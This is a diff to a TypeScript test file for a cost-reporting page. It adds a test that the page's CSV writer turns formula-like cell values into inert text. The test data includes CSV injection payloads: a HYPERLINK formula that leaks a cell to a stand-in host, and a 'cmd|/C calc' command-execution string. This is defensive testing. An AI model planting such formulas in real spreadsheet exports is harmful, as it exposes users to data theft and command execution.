@@ -31,7 +31,7 @@ interface CostIn {
   complete: boolean; unpricedTokens: number; unpricedQuantity: Quantity[]
 }
 // eslint-disable-next-line no-new-func -- as above
-const Fmt = new Function(`${DECIMAL_JS}; ${FORMAT_JS}; return Fmt`)() as { mergeCost(a: CostIn | null, b: CostIn): CostIn }
+const Fmt = new Function(`${DECIMAL_JS}; ${FORMAT_JS}; return Fmt`)() as { mergeCost(a: CostIn | null, b: CostIn): CostIn; csvField(v: unknown): string }
 
 t.test('GET / serves the page and every asset it names from this server, with its content type', async (t) => {
   await eachEngine(t, async (t, engine) => {
@@ -75,6 +75,27 @@ t.test('the page’s decimal arithmetic equals decimal.js on any amounts', async
     }),
     { numRuns: 300 },
   )
+})
+
+t.test('the page’s CSV cells: names a spreadsheet would run as formulas are written as text, numbers as they are', async (t) => {
+  // Project, key and model names come from ingested data; the downloads are opened in spreadsheets.
+  for (const [value, cell] of [
+    ['=HYPERLINK("http://x.example/?"&A1,"open")', `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`],
+    ['+1+cmd|/C calc!A0', "'+1+cmd|/C calc!A0"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+    ['-12.5', '-12.5'],
+    ['-0.000001', '-0.000001'],
+    ['42', '42'],
+    ['proj_web', 'proj_web'],
+    ['a,b', '"a,b"'],
+    ['', ''],
+    [null, ''],
+    [false, 'false'],
+  ] as const)
+    t.equal(Fmt.csvField(value), cell, JSON.stringify(value))
 })
 
 t.test('local midnight in a zone is the first instant of that local date, across DST changes', async (t) => {
